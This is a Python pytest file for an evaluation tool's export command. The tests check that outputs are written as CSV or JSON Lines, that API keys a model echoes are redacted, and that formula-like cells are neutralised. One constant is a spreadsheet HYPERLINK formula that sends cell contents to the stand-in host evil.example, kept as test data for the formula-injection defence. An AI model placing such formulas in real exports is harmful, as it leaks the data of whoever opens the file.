"""``evalreg export``: a use case's outputs as a table, a row per item, candidate and
sample, as CSV or JSON Lines, read from the working tree or a revision, redacted, and safe
to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from types import SimpleNamespace

import pytest

from evalreg.cli import main
from evalreg.redaction import REDACTED
from evalreg.report.export_file import csv_chunks, neutralised
from evalreg.results.export import OutputRow, columns, usd

from conftest import LIVE_KEY, Repo, assert_refused, label_of, replace_tree, template_from_live
from support.llm_server import LLMServer

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
ROTATED = "sk-rotated-4f2a9c81"
"""A key the model quotes that is not (yet) the one in the environment."""
ECHOED = json.dumps({"label": "b", "note": f"you sent {LIVE_KEY}, next {ROTATED}"})
HEADER = (
    "use_case,item,tags,candidate,sample,output,level,criterion:valid_json,criterion:label,"
    "latency_ms,input_tokens,output_tokens,cost_usd,error"
)


def first_model(request) -> str:
    """Right on every item, but m-001 answers with a spreadsheet formula and m-002 quotes
    the key it was sent."""
    text = request.body["messages"][-1]["content"]
    if text.endswith("1"):
        return FORMULA
    return ECHOED if text.endswith("2") else label_of(request)


def warmer_model(request) -> str:
    """The model after its pin changed: m-000 now gets the wrong label."""
    text = request.body["messages"][-1]["content"]
    return json.dumps({"label": "a"}) if text.endswith("0") else first_model(request)


def _two_runs(live: Repo, server: LLMServer) -> None:
    server.responder = first_model
    assert main(["-C", str(live.root), "run"]) == 0
    live.commit("results")
    server.responder = warmer_model
    server.fail_matching("Message: message 3", "content_filter")
    live.write(
        "registry/models/mini.yaml",
        live.read("registry/models/mini.yaml").replace("temperature: 0", "temperature: 0.5"),
    )
    assert main(["-C", str(live.root), "run"]) == 1  # m-003 was refused: an error to retry
    live.commit("a warmer pin")


@pytest.fixture(scope="module")
def exported_template(tmp_path_factory, live_template: Path, server_port: int) -> Path:
    """Two committed runs; the second changed mini's answer to m-000 and was refused m-003."""
    return template_from_live(tmp_path_factory, live_template, server_port, _two_runs)


@pytest.fixture
def exported(live: Repo, exported_template: Path) -> Repo:
    return replace_tree(live, exported_template)


def export(cli, repo: Repo, *args: str) -> str:
    result = cli(repo, "export", "labels", *args)
    assert result.code == 0, result.err
    return result.out


def without_latency(table: str, candidate: str = "mini") -> str:
    """``table`` (CSV) with ``candidate``'s measured latencies, which vary, as ``<ms>``."""
    lines = []
    for line in table.splitlines():
        row = next(csv.reader([line]))
        if row[3] == candidate and row[9]:
            assert row[9].isdigit()
            row[9] = "<ms>"
        out = io.StringIO()
        csv.writer(out, lineterminator="").writerow(row)
        lines.append(out.getvalue())
    return "\n".join(lines) + "\n"


# ---------------------------------------------------------------- the table
def test_csv_has_a_row_per_sample_with_its_output_level_and_verdicts(exported: Repo, cli):
    result = cli(exported, "export", "labels")
    assert result.code == 0, result.err
    assert result.out.count("\r\n") == len(result.out.splitlines()) == 9  # RFC 4180 lines
    echoed = json.dumps({"label": "b", "note": f"you sent {REDACTED}, next {ROTATED}"})
    quoted = '"' + echoed.replace('"', '""') + '"'
    formula = "\"'" + FORMULA.replace('"', '""') + '"'
    assert without_latency(result.out) == (
        f"{HEADER}\n"
        'labels,m-000,edge,rules,0,"{""label"": ""a""}",acceptable,pass,fail,0,0,0,0,\n'
        'labels,m-001,common,rules,0,"{""label"": ""a""}",correct,pass,pass,0,0,0,0,\n'
        'labels,m-002,edge,rules,0,"{""label"": ""a""}",acceptable,pass,fail,0,0,0,0,\n'
        'labels,m-003,common,rules,0,"{""label"": ""a""}",correct,pass,pass,0,0,0,0,\n'
        'labels,m-000,edge,mini,0,"{""label"": ""a""}",acceptable,pass,fail,<ms>,8,2,0.000002,\n'
        f"labels,m-001,common,mini,0,{formula},unacceptable,fail,fail,<ms>,8,1,0.000002,\n"
        f"labels,m-002,edge,mini,0,{quoted},correct,pass,pass,<ms>,8,10,0.000007,\n"
        "labels,m-003,common,mini,0,,,,,<ms>,0,0,0,client\n"  # refused: no response
    )
    assert "mini" in result.err and "stale" in result.err  # its error is to be retried


def test_jsonl_has_the_same_fields_an_object_a_line(exported: Repo, cli):
    rows = [json.loads(line) for line in export(cli, exported, "--format", "jsonl").splitlines()]
    assert [(r["item"], r["candidate"]) for r in rows] == [
        (f"m-00{i}", c) for c in ("rules", "mini") for i in range(4)
    ]
    assert list(rows[0]) == [
        "use_case",
        "item",
        "tags",
        "candidate",
        "sample",
        "output",
        "level",
        "criteria",
        "latency_ms",
        "input_tokens",
        "output_tokens",
        "cost_usd",
        "error",
    ]
    mini_0 = rows[4]
    assert isinstance(mini_0.pop("latency_ms"), int)
    assert mini_0 == {
        "use_case": "labels",
        "item": "m-000",
        "tags": ["edge"],
        "candidate": "mini",
        "sample": 0,
        "output": '{"label": "a"}',
        "level": "acceptable",
        "criteria": {"valid_json": True, "label": False},
        "input_tokens": 8,
        "output_tokens": 2,
        "cost_usd": 0.000002,
        "error": None,
    }
    assert rows[5]["output"] == FORMULA  # JSON is no spreadsheet: the text as it came
    assert rows[5]["criteria"] == {"valid_json": False, "label": False}
    refused = rows[7]
    assert refused["output"] is None and refused["level"] is None
    assert refused["criteria"] == {"valid_json": None, "label": None}
    assert refused["error"] == "client"


def test_the_same_results_give_the_same_bytes(exported: Repo, cli):
    for kind in ("csv", "jsonl"):
        first = export(cli, exported, "--format", kind)
        assert export(cli, exported, "--format", kind) == first
        out = exported.root.parent / f"outputs.{kind}"
        assert export(cli, exported, "--format", kind, "-o", str(out)) == ""
        assert out.read_bytes() == first.encode()
    assert not list(exported.root.parent.glob("*.tmp"))


def test_rev_reads_the_table_as_an_earlier_revision_recorded_it(exported: Repo, cli):
    earlier = without_latency(export(cli, exported, "--rev", "HEAD~1"))
    now = without_latency(export(cli, exported))
    assert 'labels,m-000,edge,mini,0,"{""label"": ""b""}",correct,pass,pass,' in earlier
    assert 'labels,m-000,edge,mini,0,"{""label"": ""a""}",acceptable,pass,fail,' in now
    assert 'labels,m-003,common,mini,0,"{""label"": ""a""}",correct,pass,pass,' in earlier
    assert ",client\n" in now and ",client\n" not in earlier
    # Read from git and DVC, whatever the working tree holds.
    exported.write("registry/selections/labels.yaml", "not: [a selection\n")
    assert without_latency(export(cli, exported, "--rev", "HEAD~1")) == earlier


# ---------------------------------------------------------------- untrusted output
def test_a_key_the_model_echoed_is_redacted(exported: Repo, cli, monkeypatch):
    table = export(cli, exported) + export(cli, exported, "--format", "jsonl")
    assert LIVE_KEY not in table
    assert f"you sent {REDACTED}" in table and ROTATED in table
    # The export redacts what it writes itself: a key set since the response was stored.
    monkeypatch.setenv("OPENAI_API_KEY", ROTATED)
    table = export(cli, exported) + export(cli, exported, "--format", "jsonl")
    assert ROTATED not in table and f"next {REDACTED}" in table


def test_the_tasks_redacted_output_fields_stay_redacted(exported: Repo, cli):
    task = exported.read("registry/tasks/labels.yaml")
    exported.write("registry/tasks/labels.yaml", task + "redact: [output.note]\n")
    [row] = [
        json.loads(line)
        for line in export(cli, exported, "--format", "jsonl").splitlines()
        if '"m-002","tags":["edge"],"candidate":"mini"' in line
    ]
    assert json.loads(row["output"]) == {"label": "b", "note": REDACTED}


def test_a_formula_a_spreadsheet_would_run_is_text_in_csv(exported: Repo, cli):
    [row] = [r for r in csv.reader(io.StringIO(export(cli, exported))) if r[1] == "m-001"][1:]
    assert row[5] == "'" + FORMULA


@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\r=1", "\x00=1"])
def test_a_cell_that_starts_a_formula_starts_with_a_quote(text):
    assert neutralised(text).startswith("'")


def test_number_columns_are_never_quoted_even_when_negative():
    table = SimpleNamespace(
        columns=columns(["c"]),
        criteria=("c",),
        rows=lambda: [
            OutputRow("u", "-x", ("t",), "c", 0, "-out", None, (None,), -5, 1, 2, -7, None)
        ],
    )
    out = "".join(csv_chunks(table))  # type: ignore[arg-type]
    assert out.splitlines()[1] == "u,'-x,t,c,0,'-out,,,-5,1,2,-0.000007,"
    assert [usd(n) for n in (0, 1, 1_500, 2_000_000, -12)] == [
        "0",
        "0.000001",
        "0.0015",
        "2",
        "-0.000012",
    ]


# ---------------------------------------------------------------- what is left out
def test_a_pending_cell_has_no_rows_and_a_note(exported: Repo, cli):
    selection = exported.read("registry/selections/labels.yaml")
    exported.write(
        "registry/selections/labels.yaml",
        selection.replace("    pin: mini\n", "    pin: mini\n  - id: mini-warm\n    pin: mini\n"),
    )
    result = cli(exported, "export", "labels")
    assert result.code == 0, result.err
    assert "mini-warm: no rows (pending: never run)" in result.err
    assert ",mini-warm," not in result.out
    assert len(result.out.splitlines()) == 1 + 8


@pytest.mark.parametrize(
    ("args", "expect"),
    [
        (("export", "nope"), "unknown use case 'nope' (use cases: labels)"),
        (("export", "labels", "--rev", "no-such-rev"), "unknown revision 'no-such-rev'"),
    ],
)
def test_bad_input_exits_2_and_writes_nothing(exported: Repo, cli, args, expect):
    out = exported.root / "outputs.csv"
    assert_refused(exported, cli, *args, "-o", str(out), expect=(expect,))
    assert not out.exists()


def test_a_file_in_no_directory_is_refused_before_anything_is_read(exported: Repo, cli):
    out = exported.root / "no" / "outputs.csv"
    assert_refused(exported, cli, "export", "labels", "-o", str(out), expect=("no such directory",))
